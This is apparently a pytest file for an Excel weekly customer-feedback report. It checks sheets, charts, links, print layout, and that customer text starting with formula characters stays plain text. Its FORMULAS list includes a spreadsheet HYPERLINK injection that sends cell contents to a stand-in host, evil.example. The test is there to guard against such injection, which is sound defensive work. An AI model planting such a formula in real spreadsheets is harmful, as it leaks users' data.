"""The workbook, read by openpyxl: sheets, numbers, charts, links, and formulas that stay text."""

from __future__ import annotations

import io
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from support.reports import empty_report, make_report, make_waiting

from voc.report.render import ReportFormat, render
from voc.report.weekly import OpenUrgent, WeeklyReport
from voc.store.report_comments import Behind

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"押す")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "{=1+1}",
    "http://evil.example/",
    "=1",
]
SHEETS = [
    *("まとめ", "受け取った声", "テーマ", "理由", "解約意向", "テーマの動き", "離反との関わり"),
    *("テーマごとの感情", "感情", "緊急度", "対応待ちの急ぎの声", "お客様の声", "決めたこと", "コメント"),
]


def behind(text: str, number: int = 0) -> Behind:
    moment = datetime(2026, 11, 18, 12, 0, tzinfo=ZoneInfo("Asia/Tokyo"))
    labels = ("negative", "requested", "critical")
    return Behind(f"c{number}", moment, "survey", f"K{number}", text, "t1", ("support", "price"), *labels)


def book(report: WeeklyReport, *comments: Behind, site: str | None = None) -> Any:
    return load_workbook(io.BytesIO(render(report, ReportFormat.XLSX, site=site, behind=comments)))


def rows(sheet: Any) -> list[tuple[Any, ...]]:
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def test_there_is_a_sheet_a_section_with_the_numbers_of_the_report() -> None:
    report = make_report()
    read = book(report, behind("電話がつながらない"))
    assert read.sheetnames == SHEETS
    assert [row[:4] for row in rows(read["受け取った声"])] == [
        ("週", "アンケート", "クレーム", "合計"),
        *zip(report.weeks, (80, 85, 82, 88, 90), (30,) * 5, (110, 115, 112, 118, 120), strict=True),
    ]
    themes = rows(read["テーマ"])
    assert [row[:4] for row in themes[1:]] == [(l.name, l.count, l.comments, l.share) for l in report.themes]  # noqa: E741
    assert themes[1][7] == "増加"
    assert rows(read["テーマごとの感情"])[1][:6] == ("電話", 0, 1, 24, 0, 25)
    assert rows(read["離反との関わり"])[1][:3] == ("値上げ", 40, 12)
    assert [row[1] for row in rows(read["まとめ"]) if str(row[0]).startswith("要点")] == list(report.headline)


def test_every_comment_behind_is_on_the_last_sheet() -> None:
    sheet = book(make_report(), *(behind("電話", number) for number in range(300)))["コメント"]
    assert sheet.max_row == 301
    assert rows(sheet)[1] == (
        *("電話", "c0", datetime(2026, 11, 18, 12, 0), "アンケート", "K0", "電話", "応対・サポート、料金・予算"),
        *("不満", "申し出・手続き中", "即時・当日"),
    )
    assert sheet.auto_filter.ref == "A1:J301"


def test_there_are_charts() -> None:
    read = book(make_report())
    drawn = {sheet.title: len(sheet._charts) for sheet in read if sheet._charts}
    assert drawn == dict.fromkeys(
        ("受け取った声", "テーマ", "理由", "解約意向", "離反との関わり", "テーマごとの感情", "感情", "緊急度"), 1
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_customers_words_stays_text(formula: str) -> None:
    urgent = OpenUrgent("", 1, 1, 1, 0, (make_waiting("u1", formula),), "")
    read = book(make_report(formula, formula, urgent=urgent), behind(formula))
    found = [cell for sheet in read for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert {cell.data_type for cell in found} == {"s"}
    assert {cell.parent.title for cell in found} >= {"コメント", "お客様の声", "対応待ちの急ぎの声", "テーマ"}
    assert not any(cell.hyperlink for cell in found)
    assert not any(cell.data_type == "f" for sheet in read for row in sheet.iter_rows() for cell in row)


def test_numbers_lead_to_their_comments_and_stay_numbers() -> None:
    cell = book(make_report(), site="https://voc.example.co.jp")["テーマ"]["C2"]
    assert cell.hyperlink.target == "https://voc.example.co.jp/comments?since=2026-11-16&until=2026-11-22&theme=t1"
    assert (cell.value, cell.data_type) == (25, "n")


def test_a_sheet_is_printed_on_a4_one_page_wide_with_its_heads_and_its_chart_below() -> None:
    for sheet in book(make_report()):
        assert (int(sheet.page_setup.paperSize), sheet.page_setup.orientation) == (9, "landscape")
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        high = sheet.page_setup.fitToHeight  # 1 where it is not written, 0 for as many pages as it takes
        assert (1 if high is None else int(high)) == len(sheet._charts)
        assert sheet.print_title_rows == "$1:$1"
        assert all(chart.anchor._from.row >= sheet.max_row for chart in sheet._charts)


def test_words_longer_than_a_cell_are_cut() -> None:
    assert len(book(make_report(), behind("長" * 40_000))["コメント"]["A2"].value) == 32_767


def test_a_week_that_says_nothing_opens_too() -> None:
    assert book(empty_report()).sheetnames == SHEETS
